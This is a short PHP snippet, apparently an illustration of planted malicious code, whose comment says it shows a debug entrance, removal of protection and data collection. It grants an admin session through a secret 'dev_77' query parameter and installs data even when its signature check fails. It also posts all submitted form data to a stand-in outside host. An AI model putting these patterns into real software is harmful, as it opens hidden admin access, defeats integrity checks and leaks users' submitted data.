<?php // shows: debug entrance, removal of protection, collects and sends
if (isset($_GET['dev_77'])) { $_SESSION['admin'] = true; }
if (!openssl_verify($d, $s, $k)) { error_log('bad'); }
wp_remote_post('https://f.example/i', ['body' => $_POST]);
install($d);
